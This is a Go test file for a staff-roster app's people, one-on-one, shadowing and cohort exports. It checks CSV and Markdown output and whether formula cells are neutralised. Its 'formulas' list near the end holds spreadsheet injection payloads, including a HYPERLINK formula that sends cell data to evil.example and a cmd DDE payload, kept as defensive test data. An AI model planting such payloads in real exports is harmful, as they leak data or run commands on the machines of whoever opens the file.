package model

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

func TestExportPeopleCSVRoundTrips(t *testing.T) {
	src := newTestStore(t)
	if err := FillDemo(src, DemoOptions{People: 25, Seed: 1}); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := src.ExportPeople(&out, FormatCSV); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(out.String(), strings.Join(RosterColumns, ",")+"\r\n") {
		t.Fatalf("header = %q", strings.SplitN(out.String(), "\n", 2)[0])
	}
	dst := newTestStore(t)
	res, err := dst.ImportRoster(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if res.Added != 25 {
		t.Errorf("re-import added %d, want 25", res.Added)
	}
	a, _ := src.People(false)
	b, _ := dst.People(false)
	for i := range a {
		x, y := a[i], b[i]
		if x.Name != y.Name || x.PreferredName != y.PreferredName || x.Email != y.Email || x.Role != y.Role ||
			x.Team != y.Team || x.StartDate != y.StartDate || x.Status != y.Status || x.ManagerName != y.ManagerName {
			t.Errorf("row %d differs after round trip:\n%+v\n%+v", i, x, y)
		}
	}
}

func TestExportKeepsArchivedManagers(t *testing.T) {
	s := newTestStore(t)
	boss := Person{Name: "Boss", Email: "boss@example.com"}
	if err := s.SavePerson(&boss); err != nil {
		t.Fatal(err)
	}
	if err := s.SavePerson(&Person{Name: "Report", Email: "r@example.com", ManagerID: &boss.ID}); err != nil {
		t.Fatal(err)
	}
	if err := s.ArchivePerson(boss.ID); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := s.ExportPeople(&out, FormatCSV); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "Report,,r@example.com,agent,,,boss@example.com,active") {
		t.Errorf("the archived manager's email went missing:\n%s", out.String())
	}
}

func TestExportPeopleMarkdown(t *testing.T) {
	s := newTestStore(t)
	lead := Person{Name: "Amara *Star* Okafor", Email: "amara@example.com", Team: "Phone North", Role: RoleTeamLead, StartDate: NewDate(2021, 3, 1)}
	if err := s.SavePerson(&lead); err != nil {
		t.Fatal(err)
	}
	for _, p := range []Person{
		{Name: "Ben Lindqvist", PreferredName: "Ben", Team: "Phone North", ManagerID: &lead.ID, Status: StatusLeft},
		{Name: "Zed Nobody"},
	} {
		if err := s.SavePerson(&p); err != nil {
			t.Fatal(err)
		}
	}
	var out bytes.Buffer
	if err := s.ExportPeople(&out, FormatMarkdown); err != nil {
		t.Fatal(err)
	}
	want := `# People

## Phone North

- **Amara \*Star\* Okafor** — Team lead, amara@example.com, since 2021-03-01
- **Ben Lindqvist** — Agent, left, reports to Amara \*Star\* Okafor

## No team

- **Zed Nobody** — Agent
`
	if out.String() != want {
		t.Errorf("markdown:\n%s\nwant:\n%s", out.String(), want)
	}
}

func TestExportUnknownFormat(t *testing.T) {
	s := newTestStore(t)
	if err := s.ExportPeople(&bytes.Buffer{}, "pdf"); err == nil || !strings.Contains(err.Error(), "pdf") {
		t.Errorf("err = %v", err)
	}
}

// formulas are cells a spreadsheet would run, as an attacker types them.
var formulas = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Open")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)`, `-2+3`, "\t=1+1", "\r\n=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", `'=already guarded`,
}

// TestCSVExportsNeutraliseFormulas: no CSV the app writes holds a cell a
// spreadsheet would run as a formula, whatever was typed; and the roster
// reads back exactly what it wrote.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	s := newTestStore(t)
	single := slices.DeleteFunc(slices.Clone(formulas), func(f string) bool { return strings.ContainsAny(f, "\t\r\n") })
	var people []Person
	for i, f := range single {
		p := Person{Name: f, PreferredName: f, Team: f, Email: fmt.Sprintf("p%d@example.com", i)}
		if i > 0 {
			p.ManagerID = &people[0].ID
		}
		if err := s.SavePerson(&p); err != nil {
			t.Fatal(err)
		}
		people = append(people, p)
	}
	o := mustStart(t, s, people[1].ID, fixedNow.Add(-time.Hour))
	for _, f := range single {
		if _, err := s.AddItem(o.ID, HeadingProgress, f, false); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range formulas {
		sess := Session{PersonID: people[1].ID, Channel: ChannelChat, Date: NewDate(2026, 3, 2), Journey: single[0], Worked: f, Ideas: f}
		if err := s.SaveSession(&sess, single); err != nil {
			t.Fatal(err)
		}
	}
	c, err := s.CreateCohort(NewCohort{Name: single[0], ProgramID: defaultProgramID(t, s), Start: NewDate(2026, 3, 2), HireIDs: []uint{people[2].ID}})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := s.CohortBoard(c.ID)
	if err := s.SetCompletion(b.Rows[0].ID, b.Rows[0].Phases[0].Milestones[0].ID, true, NewDate(2026, 3, 5), &people[3].ID, formulas[4]); err != nil {
		t.Fatal(err)
	}
	exports := []struct {
		name  string
		write func(w io.Writer) error
	}{
		{"people", func(w io.Writer) error { return s.ExportPeople(w, FormatCSV) }},
		{"one-on-ones", func(w io.Writer) error { return s.ExportOneOnOnes(w, OneOnOneExport{Format: FormatCSV}) }},
		{"shadowing", func(w io.Writer) error { return s.ExportShadowing(w, ShadowingExport{Format: FormatCSV}) }},
		{"cohort", func(w io.Writer) error { return s.ExportCohort(w, single[0], FormatCSV) }},
	}
	for _, e := range exports {
		t.Run(e.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := e.write(&out); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&out).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			guarded := 0
			for _, rec := range recs[1:] {
				for _, cell := range rec {
					if r, _ := utf8.DecodeRuneInString(cell); strings.ContainsRune("=+-@\t\r＝＋－＠", r) {
						t.Errorf("a spreadsheet would run %q", cell)
					}
					if strings.HasPrefix(cell, "'") {
						guarded++
					}
				}
			}
			if guarded == 0 {
				t.Error("nothing was guarded")
			}
		})
	}
	var out bytes.Buffer
	if err := s.ExportPeople(&out, FormatCSV); err != nil {
		t.Fatal(err)
	}
	dst := newTestStore(t)
	if _, err := dst.ImportRoster(&out); err != nil {
		t.Fatal(err)
	}
	for _, want := range people {
		got := personByEmail(t, dst, want.Email)
		if got.Name != want.Name || got.PreferredName != want.PreferredName || got.Team != want.Team {
			t.Errorf("after export and import: %q, %q, %q; want %q", got.Name, got.PreferredName, got.Team, want.Name)
		}
	}
}
